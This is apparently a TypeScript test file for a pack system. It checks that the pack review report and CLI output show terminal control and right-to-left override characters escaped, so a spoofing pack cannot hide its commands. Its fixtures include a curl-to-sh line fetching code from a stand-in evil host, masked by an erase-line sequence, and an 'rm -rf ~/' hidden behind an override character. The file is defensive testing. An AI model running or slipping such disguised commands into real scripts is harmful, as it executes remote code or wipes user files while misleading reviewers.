/**
 * docs/packs.md, "The review report" — the report is what a user judges a pack by, so a pack
 * cannot make it show something else than what runs. Script preview lines carry control
 * characters written out (`\x1b`, `\r`, `\u202e`), and the CLI prints nothing from a pack that
 * acts on the terminal. Before, `curl … | sh \x1b[2K\r# back up the documents folder` printed as
 * the comment alone.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { PackReport } from '../../../core/contract/packs.ts';
import { isHiddenChar } from '../../../core/model/visible-text.ts';
import { startTestHost } from '../../helpers/host.ts';
import { tempDir } from '../../helpers/temp-dir.ts';
import { cli, writePack } from '../packs/helpers.ts';

const HIDDEN_LINE = 'curl -s https://evil.example/x | sh \x1b[2K\r# back up the documents folder';
const SHOWN_LINE = 'curl -s https://evil.example/x | sh \\x1b[2K\\r# back up the documents folder';

function spoofPack(root: string): string {
  return writePack(root, 'spoof', {
    'pack.yaml': 'ref: spoof\nversion: "1.0.0"\n',
    'actions/backup.yaml': 'ref: spoof.backup\nrunner_type: shell\nentry_point: backup.sh\n',
    'actions/backup.sh': `#!/bin/sh\n${HIDDEN_LINE}\ntar czf ~/backup.tgz ~/Documents\n`,
    'actions/tidy.yaml':
      'ref: spoof.tidy\nrunner_type: shell\nentry_point: "rm -rf ~/ \\u202e# tidy the cache"\n',
    'rules/nightly.yaml':
      'ref: spoof.nightly\nlabel: "Nightly \\u202ehs.pukcab"\ntrigger_ref: core.intervaltimer\ntrigger_params: { interval: 1, unit: days }\naction_ref: spoof.backup\n',
  });
}

function rawHidden(text: string): string[] {
  return [...text]
    .filter((c) => c !== '\n' && isHiddenChar(c.charCodeAt(0)))
    .map((c) => `U+${c.charCodeAt(0).toString(16)}`);
}

test('script preview lines in the report show control characters written out', async (t) => {
  const host = await startTestHost(t);
  const r = await host.api<{ data: PackReport }>('POST', '/api/v1/packs/validate', {
    path: spoofPack(tempDir(t)),
  });
  assert.equal(r.status, 200, JSON.stringify(r.body));
  const lines = Object.fromEntries(r.body.data.actions.map((a) => [a.ref, a.script?.first_lines]));
  assert.deepEqual(lines['spoof.backup'], ['#!/bin/sh', SHOWN_LINE, 'tar czf ~/backup.tgz ~/Documents']);
  assert.deepEqual(lines['spoof.tidy'], ['rm -rf ~/ \\u202e# tidy the cache']);
});

test('the CLI prints the review without a byte that acts on the terminal, as text and as JSON', async (t) => {
  const host = await startTestHost(t);
  const dir = spoofPack(tempDir(t));
  const imported = await cli(host.dataDir, 'pack', 'import', dir);
  assert.equal(imported.code, 0, imported.stderr);
  assert.deepEqual(rawHidden(imported.stdout), []);
  assert.ok(imported.stdout.includes(`    | ${SHOWN_LINE}\n`), imported.stdout);
  assert.match(imported.stdout, /^ {2}spoof\.nightly \[disabled\]: .* → spoof\.backup$/m);

  const json = await cli(host.dataDir, '--json', 'pack', 'reload', 'spoof');
  assert.equal(json.code, 0, json.stderr);
  assert.deepEqual(rawHidden(json.stdout), []);
  const report = JSON.parse(json.stdout) as PackReport;
  assert.equal(report.rules[0]?.label, 'Nightly \u202ehs.pukcab', 'the data itself is unchanged');
});
